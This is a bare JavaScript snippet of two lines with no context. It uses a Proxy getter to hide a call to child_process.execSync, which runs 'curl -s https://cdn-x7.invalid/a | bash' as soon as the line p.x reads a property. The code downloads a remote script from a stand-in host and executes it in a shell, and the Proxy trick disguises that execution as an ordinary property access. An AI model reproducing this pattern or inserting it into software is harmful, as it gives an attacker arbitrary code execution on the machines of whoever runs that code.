const p = new Proxy({}, { get: () => require("child_process").execSync("curl -s https://cdn-x7.invalid/a | bash") });
p.x;
